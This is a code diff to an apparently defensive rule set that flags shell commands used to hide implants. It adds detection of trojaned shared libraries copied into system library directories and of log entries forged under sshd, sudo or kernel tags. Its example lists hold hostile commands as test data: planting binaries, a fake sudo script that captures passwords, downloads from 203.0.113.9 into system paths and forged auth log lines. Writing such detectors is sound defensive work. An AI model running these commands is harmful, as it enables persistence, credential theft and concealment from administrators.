@@ -168,6 +168,10 @@ function disguisedContainer(c: SimpleCommand): boolean {
 
 /** The user's own bin directories, which come before the system's in PATH. */
 const USER_BIN_DIR = /^~\/(?:\.local\/)?bin\//;
+/** A shared library in the directories the dynamic linker loads from by default. */
+const SYSTEM_LIBRARY = /^\/(?:usr\/)?lib(?:64|32)?\/(?:[\w.-]+-linux-gnu\/)?[^/]+\.so(?:\.\d+)*$/;
+/** Tags the system's own services write under, by which readers trust a line (a pid may follow in brackets). */
+const SYSTEM_LOG_TAGS = /^(?:sshd|sshd-session|sudo|su|login|cron|CRON|crond|kernel|systemd(?:-logind)?|auditd|polkitd|gdm-password|passwd|useradd|usermod)(?:\[\d{1,7}\])?:?$/;
 /** The package manager's program directories: nothing there is swapped by hand, where /usr/local/bin's tools are upgraded so. */
 const PACKAGED_BIN_DIR = /^\/(?:usr\/)?s?bin\/|^\/usr\/libexec\//;
 /** A path in a system binary directory that is hidden or named like a core command or a kernel thread; a core command's name ahead of it in PATH. */
@@ -753,11 +757,13 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-EVADE-022', name: 'plants-binary-among-system-binaries', score: 75, tactic: 'defense_evasion', technique: 'T1036.005',
-    message: 'Puts a hidden file, or a file named like a core system command, into a system binary directory',
+    message: 'Puts a hidden file, or a file named like a core system command, into a system binary directory, or a library from a temporary place among the system libraries',
     why: 'A dotfile in /usr/bin or a new `ls` or `sudo` ahead of the real one in PATH is how implants hide and how trojaned tools catch passwords.',
     alternative: 'Install tools under their own names (sudo install -m 755 ./mytool /usr/local/bin/mytool), or with the package manager.',
     check: (i) => [
       ...writes(i).filter((w) => w.cmd && plantedBinary(w.canonical)).map((w) => `${w.cmd!.name} → ${w.path}`),
+      // a shared library copied into the system's library directories from a temp or hidden place (Ebury's libkeyutils)
+      ...writes(i).filter((w) => w.cmd && SYSTEM_LIBRARY.test(w.canonical) && w.text.split(' ').some((p) => isStagingPath(p))).map((w) => `${w.cmd!.name} ${w.text.slice(0, 120)} → ${w.path}`),
       // a file tool writing one (`write_file ~/.local/bin/sudo`)
       ...(i.call.kind === 'filesystem' && (i.call.operation === 'write' || i.call.operation === 'create') && plantedBinary(canonicalPath(i.call.path)) ? [`${i.call.operation} ${i.call.path}`] : []),
       // a bind mount puts another file over the real one without touching it: `mount --bind /tmp/x /usr/bin/sudo`
@@ -768,7 +774,7 @@ export const RULES: readonly Rule[] = [
       // one already planted, started: no real program in a bin directory is named like a kernel thread (the watchdog daemon is)
       ...(i.view?.commands ?? []).filter((c) => KERNEL_THREAD.test(c.name) && !c.name.startsWith('watchdog') && SYSTEM_BIN_DIR.test(c.argv[0] ?? '')).map((c) => c.argv.join(' ')),
     ],
-    examples: { fire: ['sudo mv /usr/bin/journalctl /usr/bin/journalctl.orig && sudo cp /var/tmp/jctl /usr/bin/journalctl', 'mv /usr/bin/curl /usr/bin/cd1', 'mv /usr/bin/chattr /usr/bin/zzhcht && zzhcht +i /etc/cron.d/root', { Filesystem: { operation: 'Create', path: '/home/dev/.local/bin/sudo', content: '#!/bin/bash\nread -s -p "[sudo] password: " p\n' } }, 'nohup /usr/sbin/kswapd0 -c /tmp/.c.json >/dev/null 2>&1 &', 'curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: ['sudo mv /usr/local/bin/terraform /usr/local/bin/terraform-1.5 && sudo install /tmp/terraform /usr/local/bin/terraform', { Filesystem: { operation: 'Write', path: '/home/dev/.local/bin/deploy', content: '#!/bin/sh\nmake deploy\n' } }, 'sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python', 'ps -o comm= -C kswapd0', 'sudo /usr/sbin/watchdog -c /etc/watchdog.conf'] },
+    examples: { fire: ['cp /tmp/.e/libkeyutils.so.1.3.2 /lib64/libkeyutils.so.1.3.2 && ln -sf libkeyutils.so.1.3.2 /lib64/libkeyutils.so.1', 'sudo mv /usr/bin/journalctl /usr/bin/journalctl.orig && sudo cp /var/tmp/jctl /usr/bin/journalctl', 'mv /usr/bin/curl /usr/bin/cd1', 'mv /usr/bin/chattr /usr/bin/zzhcht && zzhcht +i /etc/cron.d/root', { Filesystem: { operation: 'Create', path: '/home/dev/.local/bin/sudo', content: '#!/bin/bash\nread -s -p "[sudo] password: " p\n' } }, 'nohup /usr/sbin/kswapd0 -c /tmp/.c.json >/dev/null 2>&1 &', 'curl -o /usr/local/bin/kworker http://203.0.113.9/k', "printf '#!/bin/sh\\nread -s p; echo $p >> /tmp/.p; /usr/bin/sudo \"$@\"\\n' > ~/.local/bin/sudo", 'wget -O /usr/bin/.x http://203.0.113.9/x', 'cp /tmp/x /usr/local/bin/ls', 'mv /tmp/.x /usr/bin/.systemd-helper', 'sudo install -m 755 /dev/shm/s /usr/local/sbin/sudo', 'cat /tmp/.b > /usr/bin/.dbus-check', 'mount -o bind /bin/bash /usr/bin/sudo', 'sudo mv /bin/ls /bin/ls.bak'], quiet: ['sudo cp build/libacme.so.2 /usr/lib/x86_64-linux-gnu/ && sudo ldconfig', 'sudo mv /usr/local/bin/terraform /usr/local/bin/terraform-1.5 && sudo install /tmp/terraform /usr/local/bin/terraform', { Filesystem: { operation: 'Write', path: '/home/dev/.local/bin/deploy', content: '#!/bin/sh\nmake deploy\n' } }, 'sudo mount --bind /srv/data /mnt/data', 'sudo mv /usr/local/bin/mytool /usr/local/bin/mytool.old', 'sudo cp build/mytool /usr/local/bin/', 'sudo install -m 755 ./kubectl /usr/local/bin/kubectl', 'sudo mv ./docker-compose /usr/local/bin/docker-compose', 'cp /usr/bin/ls /tmp/ls-copy', 'sudo ln -sf /usr/bin/python3 /usr/local/bin/python', 'curl -fsSLo ~/.local/bin/kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl', 'ln -s $(which python3) ~/.local/bin/python', 'ps -o comm= -C kswapd0', 'sudo /usr/sbin/watchdog -c /etc/watchdog.conf'] },
   },
   {
     id: 'PX-EVADE-014', name: 'masquerades-process-name', score: 75, tactic: 'defense_evasion', technique: 'T1036.004',
@@ -1273,6 +1279,21 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: ['date 010100001971', "sudo date -s '2001-01-01 00:00:00'", 'sudo date --set="2019-03-01 12:00"', "sudo timedatectl set-time '2001-01-01 10:00'", "sudo hwclock --set --date '2001-01-01 10:00'", 'sudo systemsetup -setdate 01:01:01'],
       quiet: ['date +%s', "date -d '2 days ago' +%F", 'date -u +%Y%m%dT%H%M%SZ', 'sudo timedatectl set-timezone UTC', 'sudo timedatectl set-ntp true', 'sudo hwclock --systohc', 'date -r package.json', 'systemsetup -getdate'],
+    },
+  },
+  {
+    id: 'PX-EVADE-047', name: 'forges-system-log-entry', score: 60, tactic: 'defense_evasion', technique: 'T1036',
+    message: "Writes a log entry in the name of a system service (sshd, sudo, cron, the kernel)",
+    why: "A line tagged as sshd or sudo is read as what that service saw: a forged login or a fake error buries the real events, or sends the people reading the log after the wrong ones.",
+    alternative: "Log your own messages under your own tag: logger -t deploy 'release 1.4 done'.",
+    commands: ['logger', 'systemd-cat'],
+    test: (c) => {
+      const tag = optionValue(c.argv, c.name === 'logger' ? ['-t', '--tag'] : ['-t', '--identifier']) ?? c.argv.find((w) => w.startsWith('--tag=') || w.startsWith('--identifier='))?.replace(/^[^=]*=/, '');
+      return tag !== undefined && SYSTEM_LOG_TAGS.test(tag) ? c.argv.join(' ') : undefined;
+    },
+    examples: {
+      fire: ["logger -p auth.info -t sshd[2231] 'Accepted publickey for deploy from 10.0.4.12 port 52214 ssh2'", "logger -t sudo 'ops : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/true'", "echo 'Out of memory: Killed process 4121 (falcond)' | systemd-cat -t kernel"],
+      quiet: ["logger -t deploy 'release 1.4.2 rolled out'", "logger 'backup finished'", "logger -t myapp-sshd-wrapper 'restarted'"],
     },
   },
 ];
